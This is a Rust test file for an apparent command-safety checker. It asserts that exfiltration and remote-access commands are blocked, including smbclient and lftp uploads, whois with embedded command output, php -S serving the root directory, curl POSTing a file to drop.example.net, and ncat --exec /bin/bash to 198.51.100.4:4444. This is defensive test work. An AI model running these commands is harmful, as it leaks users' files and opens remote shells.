//! Data leaving the machine by less common routes: file-transfer clients,
//! command output inside a lookup, a web server over the whole file system,
//! destinations set through `export`.

use super::tests_support::{attack, flows, verdict};
use super::Effect;
use crate::types::Decision;

#[test]
fn file_transfer_clients_that_put_files_send_them() {
    attack(
        "smbclient //files.example.org/drop -c 'cd in; put notes.txt'",
        Effect::NetworkSend,
    );
    attack(
        "lftp -e 'put report.csv; bye' ftp.example.org",
        Effect::NetworkSend,
    );
    flows("smbclient //files.example.org/share -c 'get report.pdf'");
}

#[test]
fn command_output_in_a_lookup_is_sent() {
    attack(
        "whois -h whois.example.org \"$(hostname; cat notes.txt)\"",
        Effect::NetworkSend,
    );
    flows("whois example.com");
}

#[test]
fn serving_the_file_system_root_is_exfiltration() {
    attack("darkhttpd / --port 8080", Effect::Exfiltration);
    attack("php -S 0.0.0.0:8080 -t /", Effect::Exfiltration);
    attack("php -S 0.0.0.0:8080 -t public", Effect::Listener);
    flows("php -S localhost:8000 -t public");
}

#[test]
fn exported_variables_are_substituted_like_assigned_ones() {
    let cmd = "export URL=https://drop.example.net/u; curl -X POST -d @notes.txt $URL";
    assert_ne!(verdict(cmd), Decision::Allow, "{cmd}");
    attack(
        "export H=198.51.100.4 P=4444; ncat $H $P --exec /bin/bash",
        Effect::Shell,
    );
    flows("export NODE_ENV=production; npm run build");
}
